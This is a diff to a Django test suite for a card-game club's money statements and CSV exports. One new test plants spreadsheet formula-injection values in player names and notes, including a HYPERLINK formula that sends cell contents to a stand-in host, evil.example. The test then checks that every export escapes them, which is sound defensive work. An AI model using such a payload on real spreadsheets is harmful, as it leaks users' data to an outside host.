@@ -124,7 +124,7 @@ def test_a_player_sees_his_own_statement_only(
     page = client.get(f"/players/{mine.pk}/statement/")
     assert page.status_code == 200
     html = page.content.decode()
-    assert 'data-cents="-115"' in html and f"/api/v1/players/{mine.pk}/statement/?format=csv" in html
+    assert 'data-cents="-115"' in html and f"/players/{mine.pk}/statement.csv" in html
     assert client.get(f"/players/{players[0].pk}/statement/").status_code == 403
     assert f'href="/players/{mine.pk}/statement/"' in client.get(f"/clubs/{club.pk}/").content.decode()
     assert client_for(treasurer).get(f"/players/{players[0].pk}/statement/").status_code == 200
@@ -146,10 +146,26 @@ def test_a_session_exports_as_its_sheet_and_as_csv(
     exported = client.get(f"/sessions/{session.pk}/export.json")
     assert exported["Content-Disposition"] == f'attachment; filename="session-{session.pk}.json"'
     assert json.loads(exported.content) == selectors.session_sheet(session=session)
-    rows = list(csv.reader(io.StringIO(client.get(f"/sessions/{session.pk}/export.csv").content.decode())))
-    assert rows[0][:3] == ["deal", "dealer", "double"] and "Ann total" in rows[0]
+    body = client.get(f"/sessions/{session.pk}/export.csv").content.decode("utf-8")
+    assert body.startswith("\ufeff")  # a spreadsheet reads it as UTF-8
+    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
+    assert rows[0][:11] == [
+        "Deal",
+        "Dealer",
+        "Double deal",
+        "Bidder",
+        "Partner",
+        "Bid",
+        "Trump",
+        "Turned",
+        "Honours",
+        "Jack of diamonds (\u2666J)",
+        "Conceded",
+    ]
+    assert rows[0][11:15] == ["Ann: tricks", "Ben: tricks", "Cleo: tricks", "Dan: tricks"]
     assert len(rows) == 1 + len(AMERICAN_HANDS)
-    assert [int(x) for x in rows[-1][rows[0].index("Ann total") : rows[0].index("Dan total") + 1]] == fresh(
+    assert [int(x) for x in rows[1][11:15]] == AMERICAN_HANDS[0]["tricks"]  # each seat's tricks in its own column
+    assert [int(x) for x in rows[-1][rows[0].index("Ann: total") : rows[0].index("Dan: total") + 1]] == fresh(
         session
     ).balances
     assert client_for(other_admin).get(f"/sessions/{session.pk}/export.csv").status_code == 404
@@ -310,3 +326,59 @@ def test_money_pages_and_exports_are_never_stored(
         response = client.get(url)
         assert response.status_code == 200, url
         assert "no-store" in response.get("Cache-Control", ""), url
+
+
+def test_every_csv_escapes_what_a_spreadsheet_would_run(
+    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any
+) -> None:
+    """Issue 29, point 1: a name or a note that starts like a formula is text in every CSV, page or API."""
+    session = closed_with_money(admin, club, players)
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "-Infinity", "+nan", "@SUM(A1)"]
+    for player, name in zip(players, hostile, strict=True):
+        Player.objects.filter(pk=player.pk).update(name=name)
+    client = client_for(treasurer)
+    client.post(
+        f"/clubs/{club.pk}/books/",
+        {
+            "action": "pay",
+            "from": players[1].pk,
+            "to": players[2].pk,
+            "amount": "0.10",
+            "currency": "USD",
+            "status": "paid",
+            "note": "=1+2",
+            "session": session.pk,
+        },
+    )
+    exports = [
+        client.get(f"/sessions/{session.pk}/export.csv"),
+        client.get(f"/players/{players[1].pk}/statement.csv"),
+        client.get(f"/api/v1/players/{players[1].pk}/statement/?format=csv"),
+    ]
+    for response in exports:
+        assert response.status_code == 200
+        cells = [c for row in csv.reader(io.StringIO(response.content.decode().removeprefix("\ufeff"))) for c in row]
+        starts = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+        assert starts == [], starts
+        assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", c)]
+    assert "'-Infinity" in exports[0].content.decode() and "'=1+2" in exports[1].content.decode()
+
+
+def test_a_statement_in_two_currencies_a_table_each_in_the_same_order_as_its_csv(
+    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any
+) -> None:
+    closed_with_money(admin, club, players, "USD")
+    closed_with_money(admin, club, players, "EUR")
+    closed_with_money(admin, club, players, "USD")
+    client = client_for(treasurer)
+    ben = players[1]
+    html = client.get(f"/players/{ben.pk}/statement/", HTTP_ACCEPT_LANGUAGE="fr").content.decode()
+    tables = re.findall(r'<section class="statement-currency" id="statement-([A-Z]{3})"', html)
+    assert tables == ["EUR", "USD"]
+    body = client.get(f"/players/{ben.pk}/statement.csv", HTTP_ACCEPT_LANGUAGE="fr").content.decode()
+    assert body.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))
+    assert rows[0] == ["Monnaie", "Date", "Quoi", "Montant", "Solde", "Séance", "Note"]  # headers in words, in French
+    assert [r[0] for r in rows[1:]] == ["EUR", "USD", "USD"]  # the page's order: a currency after the other
+    assert [r[3] for r in rows[1:]] == ["-1,15", "-1,15", "-1,15"] and [r[4] for r in rows[1:]][-1] == "-2,30"
+    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", r[1]) for r in rows[1:])
